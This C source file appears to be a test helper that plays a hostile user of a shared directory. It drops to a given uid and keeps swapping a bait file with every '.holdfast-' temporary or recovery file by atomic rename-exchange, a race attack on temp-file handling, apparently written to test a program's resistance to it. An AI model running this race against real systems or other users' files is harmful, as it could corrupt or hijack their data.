/* An attacking user of a directory: moves a given file onto every new temporary and recovery copy there, or exchanges
 * it with them, until standard input is closed. Prints the number of moves.
 *   usurper -u uid directory bait suffix */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static int is_over(void) {
  struct pollfd input = {.fd = STDIN_FILENO, .events = POLLIN};
  return poll(&input, 1, 0) > 0;
}

static int ends_with(const char *name, const char *suffix) {
  size_t length = strlen(name), end = strlen(suffix);
  return length > end && strcmp(name + length - end, suffix) == 0;
}

int main(int argc, char **argv) {
  if (argc != 6 || strcmp(argv[1], "-u") != 0) {
    fprintf(stderr, "usage: usurper -u uid directory bait suffix\n");
    return 2;
  }
  uid_t uid = (uid_t)strtoul(argv[2], NULL, 10);
  if (setresgid(uid, uid, uid) != 0 || setresuid(uid, uid, uid) != 0 || chdir(argv[3]) != 0) {
    perror("usurper");
    return 2;
  }
  const char *bait = argv[4], *suffix = argv[5];
  DIR *here = opendir(".");
  if (here == NULL) {
    perror("usurper: opendir");
    return 2;
  }
  unsigned long count = 0;
  puts("ready");
  fflush(stdout);
  while (!is_over()) {
    rewinddir(here);
    for (struct dirent *entry; (entry = readdir(here)) != NULL;) {
      if (strncmp(entry->d_name, ".holdfast-", 10) != 0 || !ends_with(entry->d_name, suffix)) continue;
      if (syscall(SYS_renameat2, AT_FDCWD, bait, AT_FDCWD, entry->d_name, RENAME_EXCHANGE) == 0) count++;
    }
  }
  printf("%lu\n", count);
  return 0;
}
